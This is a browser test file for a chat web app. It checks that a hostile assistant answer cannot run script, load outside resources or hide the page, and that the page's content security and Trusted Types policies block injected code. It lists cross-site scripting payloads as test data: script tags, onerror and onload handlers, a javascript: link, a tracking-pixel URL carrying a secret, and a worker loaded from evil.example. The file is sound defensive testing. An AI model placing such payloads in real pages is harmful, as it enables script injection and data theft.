import { expect, test } from './app';
import { answer, ask, chooseServer, said, say } from './chat';

test.use({ weights: 'none' });

const hostile = [
	'<script>window.harmed = true</script>',
	'<img src="x" onerror="window.harmed = true">',
	'<svg onload="window.harmed = true"></svg>',
	'[click me](javascript:window.harmed=true)',
	'![tracker](https://tracker.example/pixel.png?secret)',
	'<style>main { display: none }</style>',
	'```"><script>window.harmed = true</script>\ncode\n```',
	'| <iframe src="https://tracker.example"></iframe> |\n|---|\n| x |'
].join('\n\n');

test('[P8] a hostile answer runs nothing, loads nothing and hides nothing', async ({ page, app, server }) => {
	const foreign: string[] = [];
	page.on('request', (request) => {
		if (![app.url, server.url, 'blob:', 'data:'].some((known) => request.url().startsWith(known))) foreign.push(request.url());
	});
	await page.goto('./');
	await chooseServer(page, server.url, 'echo');
	await say(page, hostile);
	await answer(page);
	const article = page.getByRole('article', { name: 'Assistant' });
	await article.getByText('click me').click();
	await expect(page.getByRole('main')).toBeVisible();
	expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
	expect(foreign).toEqual([]);
	await expect(article.locator('script, iframe, style, svg:not(.lucide), img')).toHaveCount(0);
});

test('[P8] the policy of the page stops a script that got in anyhow', async ({ page, expectConsole }) => {
	expectConsole.push(/Content Security Policy/, /Trusted/);
	await page.goto('./');
	await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();
	const ran = await page.evaluate(() => {
		const script = document.createElement('script');
		script.append('window.harmed = true');
		document.body.append(script);
		const handler = document.createElement('div');
		try {
			handler.setAttribute('onclick', 'window.harmed = true');
		} catch {
			// Browsers with trusted types do not even set it.
		}
		document.body.append(handler);
		handler.click();
		return 'harmed' in window;
	});
	expect(ran).toBe(false);
});

test('[P8] no text becomes HTML or the address of a script but where the app makes it', async ({ page, expectConsole }) => {
	expectConsole.push(/Trusted|no script comes from/);
	await page.goto('./');
	await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();
	const passed = await page.evaluate(() => {
		const ways: Record<string, () => unknown> = {
			innerHTML: () => (document.createElement('div').innerHTML = '<img src="x" onerror="window.harmed = true">'),
			insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
			srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
			'worker elsewhere': () => new Worker('https://evil.example/worker.js'),
			'worker of data': () => new Worker('data:text/javascript,1'),
			'another policy': () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy('mine', {})
		};
		return Object.keys(ways).filter((name) => {
			try {
				ways[name]!();
				return true;
			} catch {
				return false;
			}
		});
	});
	expect(passed).toEqual([]);
	expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
});

test('[P8] code that its grammar takes for ever for stays plain, and the page goes on', async ({ page, server }) => {
	test.setTimeout(180_000);
	await page.goto('./');
	await chooseServer(page, server.url, 'echo');
	const code = `a${'&'.repeat(997)}`;
	await say(page, `\`\`\`cpp\n${code}\n\`\`\`\n\n\`\`\`cpp\nint a = 1;\n\`\`\``);
	await answer(page);
	const blocks = said(page).assistant.locator('pre code');
	// Two workers start one after the other, and each makes the grammar ready.
	await expect(blocks.nth(1).locator('span')).not.toHaveCount(0, { timeout: 120_000 });
	await expect(blocks.first()).toHaveText(code);
	await expect(blocks.first().locator('span')).toHaveCount(0);
	await page.reload();
	await expect(blocks.first()).toHaveText(code);
	await ask(page, 'And now?');
});
